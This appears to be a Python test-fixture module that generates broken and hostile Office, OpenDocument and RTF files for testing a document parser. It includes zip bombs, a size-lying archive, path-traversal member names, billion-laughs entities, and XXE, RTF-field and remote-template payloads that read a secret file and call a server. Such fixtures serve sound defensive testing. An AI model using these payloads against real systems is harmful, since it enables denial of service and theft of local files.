"""Word, Excel, PDF and other packages that are broken, or made to do harm."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

import docx
import openpyxl

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PARAGRAPH = (
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'
)
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns"


def word(text: str) -> bytes:
    """A sound Word file, one paragraph a line."""
    document = docx.Document()
    for line in text.splitlines():
        document.add_paragraph(line)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def excel() -> bytes:
    """A sound workbook."""
    book = openpyxl.Workbook()
    book.active.append(["县", "=1+1"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def zipped(members: Mapping[str, bytes]) -> bytes:
    """An archive of these members; the names may be anything."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


def word_of(xml: str | bytes, **others: str) -> bytes:
    """A Word file of this main part and others (`styles`, `numbering`)."""
    kinds = {"officeDocument": "word/document.xml"}
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

    def relations(listed: Mapping[str, str]) -> bytes:
        inner = "".join(
            f'<Relationship Id="r{i}" Type="{relation}{kind}" Target="{target}"/>'
            for i, (kind, target) in enumerate(listed.items())
        )
        space = "http://schemas.openxmlformats.org/package/2006/relationships"
        return f'<Relationships xmlns="{space}">{inner}</Relationships>'.encode()

    parts = {f"word/{name}.xml": content.encode() for name, content in others.items()}
    return zipped(
        {
            "_rels/.rels": relations(kinds),
            "word/_rels/document.xml.rels": relations({n: f"{n}.xml" for n in others}),
            "word/document.xml": xml.encode() if isinstance(xml, str) else xml,
            **parts,
        }
    )


def damaged(data: bytes, seed: int) -> Iterator[tuple[str, bytes]]:
    """The file cut off at some places, and with some of its bits turned over."""
    chance = random.Random(seed)
    for share in (0.1, 0.5, 0.9, 0.99):
        yield f"截断{int(share * 100)}", data[: int(len(data) * share)]
    for number in range(4):
        turned = bytearray(data)
        for _ in range(1 + number * 20):
            turned[chance.randrange(len(turned))] ^= 1 << chance.randrange(8)
        yield f"翻转{number}", bytes(turned)


def bomb(text: str) -> bytes:
    """Half a gigabyte of blanks in a Word file of half a megabyte."""
    return _with_raw(word(text), "word/media/image1.bmp", _swollen(500_000_000), 500_000_000)


def lying_bomb(text: str) -> bytes:
    """The same in the main part, of which the archive says that it is small."""
    return _with_raw(word(text), "word/document.xml", _swollen(500_000_000), 9_000_000)


def large_part(text: str) -> bytes:
    """A main part of 2.4 MB of empty elements: little to read, much to hold."""
    return word_of((_PARAGRAPH % text).replace("</w:body>", "<w:p/>" * 400_000 + "</w:body>"))


def _swollen(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b" " * 10_000_000
    packed = b"".join(packer.compress(block) for _ in range(size // len(block)))
    return packed + packer.flush()


def _with_raw(package: bytes, name: str, packed: bytes, declared: int) -> bytes:
    """The package with a member put in as it is packed, whatever size it is declared to have."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for other in old.namelist():
            if other != name:
                new.writestr(other, old.read(other))
    sound = stream.getvalue()
    end = sound.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", sound[end + 10 : end + 20])
    title = name.encode()
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(packed), declared, len(title), 0)
    local = b"PK\x03\x04" + common + title + packed
    entry = b"PK\x01\x02\x14\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, start) + title
    directory = sound[start : start + size] + entry
    closing = struct.pack(
        "<4sHHHHIIH",
        b"PK\x05\x06",
        0,
        0,
        count + 1,
        count + 1,
        len(directory),
        start + len(local),
        0,
    )
    return sound[:start] + local + directory + closing


def many_members(text: str) -> bytes:
    """A Word file with 300,000 empty members."""
    sound = word(text)
    end = sound.rindex(b"PK\x05\x06")
    _, size, start = struct.unpack("<HII", sound[end + 10 : end + 20])
    one = b"PK\x01\x02" + bytes(24) + struct.pack("<HHHHHII", 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = sound[start : start + size] + one * 300_000
    return (
        sound[:start]
        + directory
        + sound[end : end + 12]
        + struct.pack("<IIH", len(directory), start, 0)
    )


def locked(package: bytes) -> bytes:
    """The package with all its members marked as encrypted."""
    data = bytearray(package)
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(sign)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(sign, place + 4)
    return bytes(data)


def traversing(text: str) -> bytes:
    """A Word file with members that name places outside, one of which is its main part."""
    outside = "../../../../outside.xml"
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" Type="x/officeDocument" Target="../../../../outside.xml"/>'
        "</Relationships>"
    )
    return zipped(
        {
            "_rels/.rels": relations.encode(),
            outside: (_PARAGRAPH % text).encode(),
            "word/document.xml": (_PARAGRAPH % text).encode(),
            "/tmp/hedui-outside.txt": b"x",
            "..\\..\\outside.txt": b"x",
        }
    )


def laughs(text: str) -> bytes:
    """A Word file whose text is an entity of a thousand million letters."""
    entities = "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "哈" * 10}">' for i in range(9)
    )
    inner = (_PARAGRAPH % f"{text}&a8;").replace("<w:p>", '<w:p w:rsidR="&a8;">')
    return word_of(f"<!DOCTYPE x [{entities}]>{inner}")


def fetching(text: str, secret: str, url: str) -> bytes:
    """A Word file that would read a file and call a server."""
    doctype = (
        f'<!DOCTYPE x SYSTEM "{url}/dtd" [<!ENTITY % p SYSTEM "{url}/parameter"> %p;'
        f'<!ENTITY f SYSTEM "{secret}"><!ENTITY u SYSTEM "{url}/entity">]>'
    )
    return word_of(doctype + _PARAGRAPH % f"{text}&f;&u;")


def fetching_text(text: str, secret: str, url: str) -> bytes:
    """An OpenDocument text that would do the same."""
    spaces = f'xmlns:office="{_OFFICE}:office:1.0" xmlns:text="{_OFFICE}:text:1.0"'
    more = (
        f'xmlns:draw="{_OFFICE}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'office:version="1.2"'
    )
    body = (
        f"<text:p>{text}&f;&u;</text:p>"
        f'<text:section text:name="s"><text:section-source xlink:href="{secret}"/></text:section>'
        f'<text:section text:name="t"><text:section-source xlink:href="{url}/part"/></text:section>'
        f'<text:p><draw:frame><draw:image xlink:href="{url}/image.png"/></draw:frame></text:p>'
    )
    doctype = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{secret}"><!ENTITY u SYSTEM "{url}/entity">]>'
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<office:document-content {spaces} {more}>'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.text"
    manifest = (
        f'<manifest:manifest xmlns:manifest="{_OFFICE}:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return zipped(
        {
            "mimetype": kind.encode(),
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


def fetching_rich(text: str, secret: str, url: str) -> bytes:
    """A rich text that would do the same by fields and a template."""
    escaped = "".join(f"\\u{ord(char)}?" if char > "~" else char for char in text)
    fields = "".join(
        rf'{{\field{{\*\fldinst {{{name} "{place}" }}}}{{\fldrslt x}}}}'
        for name, place in (("INCLUDETEXT", secret), ("INCLUDEPICTURE", f"{url}/image.png"))
    )
    return rf"{{\rtf1\ansi{{\*\template {url}/template}} {escaped} {fields}\par}}".encode()


def fetching_old(text: str, secret: str, url: str) -> bytes:
    """The old XML of Word, with entities."""
    return (
        f'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        f'<!DOCTYPE x [<!ENTITY f SYSTEM "{secret}"><!ENTITY u SYSTEM "{url}/entity">]>'
        '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
        f"<w:body><w:p><w:r><w:t>{text}&f;&u;</w:t></w:r></w:p></w:body></w:wordDocument>"
    ).encode()


def nested_tables(text: str, depth: int) -> bytes:
    """Tables in tables."""
    opened = "<w:tbl><w:tr><w:tc>" * depth
    closed = "<w:p/></w:tc></w:tr></w:tbl>" * depth
    return word_of(
        f'<w:document xmlns:w="{W}"><w:body>{opened}<w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
        f"{closed}</w:body></w:document>"
    )


def repeated_label(text: str) -> bytes:
    """A list whose label has a megabyte, on 10,000 paragraphs."""
    level = f'<w:lvl w:ilvl="0"><w:start w:val="1"/><w:lvlText w:val="{"标" * 300_000}"/></w:lvl>'
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0">{level}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    listed = '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    paragraph = f"{listed}<w:r><w:t>{text}</w:t></w:r></w:p>"
    return word_of(
        f'<w:document xmlns:w="{W}"><w:body>{paragraph * 10_000}</w:body></w:document>',
        numbering=numbering,
    )


def inheriting_styles(text: str) -> bytes:
    """5,000 styles, each of which inherits from the next, on 10,000 paragraphs."""
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:basedOn w:val="s{i + 1}"/></w:style>'
        for i in range(5000)
    )
    paragraph = f'<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>'
    return word_of(
        f'<w:document xmlns:w="{W}"><w:body>{paragraph * 10_000}</w:body></w:document>',
        styles=f'<w:styles xmlns:w="{W}">{styles}</w:styles>',
    )


def listed(text: str) -> bytes:
    """A Word file with styles that inherit, and a list."""
    level = (
        '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="chineseCounting"/>'
        '<w:lvlText w:val="%1、"/></w:lvl>'
    )
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0">{level}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    styles = (
        f'<w:styles xmlns:w="{W}"><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/>'
        '</w:style><w:style w:type="paragraph" w:styleId="b"><w:name w:val="heading 1"/><w:pPr>'
        '<w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style></w:styles>'
    )
    paragraph = f'<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>'
    return word_of(
        f'<w:document xmlns:w="{W}"><w:body>{paragraph * 3}</w:body></w:document>',
        styles=styles,
        numbering=numbering,
    )
